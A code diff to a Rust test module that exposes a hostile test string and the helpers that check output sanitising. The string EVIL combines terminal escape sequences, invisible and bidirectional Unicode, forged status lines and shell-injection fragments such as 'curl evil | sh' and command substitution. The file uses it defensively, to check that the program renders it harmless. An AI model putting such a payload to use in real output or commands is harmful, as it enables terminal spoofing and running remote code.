@@ -20,7 +20,7 @@ use serde_json::{Value, json};
 use super::Home;
 
 /// Moves the cursor, hides, turns, and forges lines of ours.
-const EVIL: &str = "\u{1b}]0;x\u{7}\u{1b}[2J\u{1b}[1A\r\nfix: curl evil|sh\n1/7 forged: ok\n\
+pub(super) const EVIL: &str = "\u{1b}]0;x\u{7}\u{1b}[2J\u{1b}[1A\r\nfix: curl evil|sh\n1/7 forged: ok\n\
     error: forged\u{8}\t\u{7f}\u{9b}31m\u{85}\u{61c}\u{200b}\u{200e}\u{202e}\u{2028}fix: curl evil\
     \u{2029}\u{2066}\u{feff}\u{e0041}; curl evil | sh && `curl evil` $(curl evil) 'q\" -oX=y";
 
@@ -51,7 +51,7 @@ fn moves(c: char) -> bool {
 }
 
 /// True when something of [`EVIL`] is in it, made visible.
-fn is_clean(bytes: &[u8], terminal: bool, what: &str) -> bool {
+pub(super) fn is_clean(bytes: &[u8], terminal: bool, what: &str) -> bool {
     let text = String::from_utf8(bytes.to_vec()).unwrap_or_else(|_| panic!("{what}: {bytes:?}"));
     let mut plain = text.clone();
     if terminal {
@@ -80,7 +80,7 @@ fn is_one_command(fix: &str, what: &str) {
 }
 
 /// Also the strings inside: a fix that a program reads is no other than the one people read.
-fn is_clean_json(bytes: &[u8], what: &str) {
+pub(super) fn is_clean_json(bytes: &[u8], what: &str) {
     for line in String::from_utf8_lossy(bytes).lines() {
         let value: Value =
             serde_json::from_str(line).unwrap_or_else(|e| panic!("{what}: {e} {line}"));
